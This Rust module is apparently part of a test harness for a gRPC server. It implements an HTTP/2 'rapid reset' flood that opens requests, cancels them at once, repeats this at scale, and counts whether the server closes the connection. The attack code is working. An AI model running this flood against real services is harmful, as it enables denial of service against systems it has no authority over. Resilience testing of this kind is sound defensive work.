//! An attacker's connections: they come from their own address and can send single frames.

use std::{
    net::{Ipv4Addr, SocketAddr},
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use bytes::Bytes;
use h2::client::{Connection, SendRequest};
use http::{Method, Request};
use tokio::{
    net::{TcpSocket, TcpStream},
    task::JoinHandle,
};

use crate::target::Scale;

/// How much of an answer the stranger takes before it reads.
pub const WINDOW: u32 = 65_535;
/// A connection ends a moment after what made it end.
const CLOSED_WITHIN: Duration = Duration::from_secs(30);

/// Where the stranger comes from.
pub const STRANGER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

/// A connection of the stranger's.
///
/// # Errors
/// If nobody listens, or nobody accepts.
pub async fn connect(to: SocketAddr) -> Result<TcpStream> {
    connect_from(STRANGER, to).await
}

/// A connection of another stranger's.
///
/// # Errors
/// If nobody listens, or nobody accepts.
pub async fn connect_from(address: Ipv4Addr, to: SocketAddr) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((address, 0)))?;
    Ok(test_support::canary::within(Duration::from_secs(10), socket.connect(to)).await.context("no connection")??)
}

/// An HTTP/2 connection of the stranger's. It lives until it is dropped or the other end closes it.
pub struct Frames {
    pub send: SendRequest<Bytes>,
    driving: JoinHandle<()>,
}

impl Frames {
    /// `window` is what the stranger takes of each answer.
    ///
    /// # Errors
    /// If nobody listens, or HTTP/2 is not spoken.
    pub async fn open(to: SocketAddr, window: u32) -> Result<Self> {
        let stream = connect(to).await?;
        let mut builder = h2::client::Builder::new();
        builder.initial_window_size(window).max_concurrent_reset_streams(100_000).max_local_error_reset_streams(None);
        let (send, connection): (SendRequest<Bytes>, Connection<TcpStream>) = builder.handshake(stream).await?;
        // An error ends the connection; the attack notices by itself.
        let driving = chassis::task::spawn(async move { _ = connection.await });
        Ok(Self { send, driving })
    }

    /// Whether the other end ends the connection in time.
    pub async fn ends_within(mut self, time: Duration) -> bool {
        test_support::canary::within(time, &mut self.driving).await.is_ok()
    }
}

impl Drop for Frames {
    fn drop(&mut self) {
        self.driving.abort();
    }
}

/// Starts and resets requests as fast as possible, on one connection after the other: this many times the scale if time allows, and for
/// as long as the scale says. Returns how many connections the other end has closed.
pub async fn reset(to: SocketAddr, path: &str, requests: usize, scale: Scale) -> usize {
    let (mut left, mut closed, began) = (requests * scale.times, 0, Instant::now());
    let goes_on = |left: usize| began.elapsed() < scale.lasts || (left > 0 && began.elapsed() < scale.lasts * 10);
    while goes_on(left) {
        let Ok(frames) = Frames::open(to, WINDOW).await else { continue };
        while goes_on(left) {
            let Ok(mut send) = frames.send.clone().ready().await else { break };
            let Ok((_, mut body)) = send.send_request(call(to, path, None), false) else { break };
            // What is reset before it is sent is never sent.
            tokio::task::yield_now().await;
            body.send_reset(h2::Reason::CANCEL);
            left = left.saturating_sub(1);
        }
        if goes_on(left) {
            closed += usize::from(frames.ends_within(CLOSED_WITHIN).await);
        }
    }
    closed
}

/// The head of a gRPC call.
#[must_use]
pub fn call(to: SocketAddr, path: &str, token: Option<&str>) -> Request<()> {
    let request = Request::builder()
        .method(Method::POST)
        .uri(format!("http://{to}{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    let request = match token {
        Some(token) => request.header("authorization", format!("Bearer {token}")),
        None => request,
    };
    request.body(()).unwrap_or_default()
}

/// The beginning of a message that says it has so many bytes.
#[must_use]
pub fn prefix(bytes: u32) -> Bytes {
    [&[0], &bytes.to_be_bytes()[..]].concat().into()
}
